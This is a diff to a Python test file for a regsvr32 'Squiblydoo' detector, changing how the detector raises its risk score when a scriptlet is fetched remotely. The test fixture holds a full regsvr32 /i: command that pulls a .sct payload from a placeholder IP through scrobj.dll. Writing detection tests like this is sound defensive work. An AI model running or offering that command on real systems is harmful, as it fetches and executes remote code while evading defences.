@@ -14,7 +14,9 @@ SQUIBLYDOO = proc("regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll")
 def test_verdict_names_the_evidence():
     v = Detector().evaluate(SQUIBLYDOO)
     assert "R32-001: scriptlet fetched from http://203.0.113.9/pay.sct via /i: and scrobj.dll" in v.reasons
-    assert v.score == max(RULES_BY_ID[r].risk for r in v.rules) and v.severity == "critical"
+    top = max(RULES_BY_ID[r].risk for r in v.rules)
+    assert v.score > top and v.severity == "critical"        # a scriptlet AND a remote payload
+    assert any(r.startswith("raised: %d -> %d" % (top, v.score)) for r in v.reasons), v.reasons
     assert v.mitre == tuple(sorted(set(t for r in v.rules for t in RULES_BY_ID[r].techniques)))
     assert list(v.rules) == sorted(v.rules)
 
@@ -22,7 +24,7 @@ def test_verdict_names_the_evidence():
 def test_fields_are_the_output_contract():
     f = Detector().evaluate(SQUIBLYDOO).fields()
     assert tuple(f) == OUTPUT_FIELDS
-    assert f["regsvr32_score"] == "90" and f["regsvr32_error"] == ""
+    assert f["regsvr32_score"] == "100" and f["regsvr32_error"] == ""
     assert all(isinstance(f[k], list) for k in ("regsvr32_rules", "regsvr32_reasons", "regsvr32_mitre",
                                                  "regsvr32_allowlisted"))
 
